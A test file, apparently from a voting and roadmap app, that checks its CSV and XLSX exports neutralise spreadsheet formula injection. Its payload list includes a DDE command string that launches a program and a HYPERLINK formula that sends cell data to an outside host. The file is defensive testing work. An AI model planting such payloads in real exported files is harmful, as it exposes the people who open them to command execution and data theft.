import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { readXlsx, unzipped } from '../../../tests/fixtures/read-files';
import { bigNames, fewResults } from '../../../tests/fixtures/results';
import { reportWords } from '../components/report-words';
import { resultsCsv } from './csv';
import { resultsJson } from './json';
import type { Results } from './results';
import { resultsXlsx } from './xlsx';

/** What a spreadsheet may take for a formula, or for a command to another program. */
const PAYLOADS = [
	'=1+1',
	'+1',
	'-1+2',
	'@SUM(A1)',
	'\t=1',
	'\r=1',
	'\n=1',
	' =1',
	'＝1+1',
	'＋1',
	'－1',
	'＠SUM',
	'"=1',
	"'=1",
	'";=1',
	',=1',
	';=1',
	'|=1',
	'a;=1',
	'a,"=1',
	'=HYPERLINK("http://example.org?"&A1)',
	"=cmd|' /C calc'!A0",
	'\ufeff=1'
];

/** Fields that people write, wherever they stand in the results. */
const WRITTEN =
	/^(?:name|title|place|text|owner|indicator|resources|notes|reason|safeguards|asks|executes|role|institution|note|gender|delegation|team|by|value)$/;

/** The same results with something before every word that anybody wrote. */
function laced<T>(value: T, payload: string, key = ''): T {
	if (typeof value === 'string') return (WRITTEN.test(key) ? payload + value : value) as T;
	if (Array.isArray(value)) return value.map((one) => laced<unknown>(one, payload, key)) as T;
	if (typeof value !== 'object' || value === null) return value;
	const entries = Object.entries(value).map(([own, inner]) => [
		key === 'byDelegation' ? payload + own : own,
		laced<unknown>(inner, payload, own)
	]);
	return Object.fromEntries(entries) as T;
}

const few = fewResults();

/** A cell that a spreadsheet would work out. */
const FORMULA = /^[\s'"`,;|]*[=+\-@\t\r＝＋－＠]/u;

describe.each(PAYLOADS)('C7: %j', (payload) => {
	const results = laced(few, payload);
	const strings = JSON.stringify(results).split(JSON.stringify(payload).slice(1, -1)).length - 1;

	test('stands in every field that people write', () => expect(strings).toBeGreaterThan(100));
	test.each([',', ';'])('is text in CSV, where %j parts the columns', (delimiter) => {
		const csv = resultsCsv(results).replace('\ufeff', '');
		const cells = Papa.parse<string[]>(csv, { delimiter }).data.flat();
		const open = cells.filter(
			(cell) => cell !== '-' && !cell.startsWith("'") && FORMULA.test(cell)
		);
		expect(open).toEqual([]);
		if (delimiter === ',' && FORMULA.test(payload))
			expect(cells.filter((cell) => cell.startsWith("'")).length).toBeGreaterThan(80);
	});
	test('is a string in a spreadsheet, as it was written', async () => {
		const file = await resultsXlsx(results, bigNames, reportWords('en', 180));
		for (const [name, xml] of unzipped(file))
			if (name.includes('worksheets')) expect(xml).not.toMatch(/<f[\s>/]/);
		const sheets = await readXlsx(file);
		const cells = sheets.flatMap(({ data }) => data.flat());
		const own = payload.replace('\r', '\n');
		for (const { text } of results.roadmap) expect(cells).toContain(text.replace('\r', '\n'));
		expect(
			cells.filter((cell) => typeof cell === 'string' && cell.startsWith(own)).length
		).toBeGreaterThan(60);
	});
	test('is unchanged in JSON', () => expect(JSON.parse(resultsJson(results))).toEqual(results));
});

describe('a spreadsheet', () => {
	const xlsx = async (results: Results) => {
		const file = await resultsXlsx(results, bigNames, reportWords('en', 180));
		return { parts: unzipped(file), sheets: await readXlsx(file) };
	};
	test('has numbers as numbers, days as days, and heads that stay', async () => {
		const { parts, sheets } = await xlsx(few);
		expect(sheets[0]?.sheet).toBe('Joint roadmap');
		expect(sheets[0]?.data[1]?.slice(0, 7)).toEqual([
			1,
			'Immediate',
			few.roadmap[0]?.text,
			'Authority 0',
			'Police 0; Bank 0',
			'Kenya; Ethiopia',
			new Date('2027-01-15')
		]);
		const sheet = parts.get('xl/worksheets/sheet1.xml') ?? '';
		expect(sheet).toMatch(/<pane [^>]*ySplit="1"[^>]*state="frozen"/);
		expect(sheet).toMatch(/<col [^>]*width="60/);
	});
	test('a text longer than a cell goes on in the row below', async () => {
		const text = '😀ab'.repeat(15_000);
		const { sheets } = await xlsx({ ...few, roadmap: [{ ...few.roadmap[0]!, text }] });
		const column = sheets[0]?.data.slice(1).map((row) => row[2]);
		expect(column?.length).toBe(3);
		expect(column?.join('')).toBe(text);
		for (const piece of column ?? []) expect(String(piece).length).toBeLessThan(32_767);
	});
	test('every vote by name has a row', async () => {
		const { sheets } = await xlsx(few);
		const votes = sheets.find(({ sheet }) => sheet === 'Votes by name');
		expect(votes?.data.slice(1)).toHaveLength(70);
		expect(votes?.data[1]).toEqual([1, 'Name 0', 'Personne-0-0 Xirsan', 'Kenya', 'Support']);
	});
});
